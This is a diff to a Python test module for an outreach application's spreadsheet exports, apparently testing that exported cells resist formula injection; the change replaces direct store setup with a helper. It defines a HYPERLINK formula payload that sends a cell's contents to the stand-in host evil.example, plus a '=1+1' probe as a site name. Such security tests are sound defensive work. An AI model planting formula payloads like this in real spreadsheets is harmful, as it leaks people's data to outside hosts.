@@ -15,8 +15,7 @@ from outreach.clock import now
 from outreach.exports.cells import csv_text, xlsx_text
 from outreach.exports.export import export_summary
 from outreach.model import Person, ScreeningEvent, Stay, Unit
-from outreach.store.store import Store
-from tests.conftest import PASSPHRASE
+from tests.support.stores import new_store
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"click")'
 UNITS = (
@@ -35,7 +34,7 @@ LEGACY = "Cedar\x00Wing"
 def exported(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
     """Ten residents aged 40 in each unit, the first eight of each covered on 2023-05-10."""
     folder = tmp_path_factory.mktemp("formulas")
-    store, _ = Store.init(folder / "store", site_name="=1+1", admin="ana", passphrase=PASSPHRASE)
+    store = new_store(folder / "store", site="=1+1")
     try:
         with store.write() as session:
             for u, name in enumerate((*UNITS, LEGACY)):
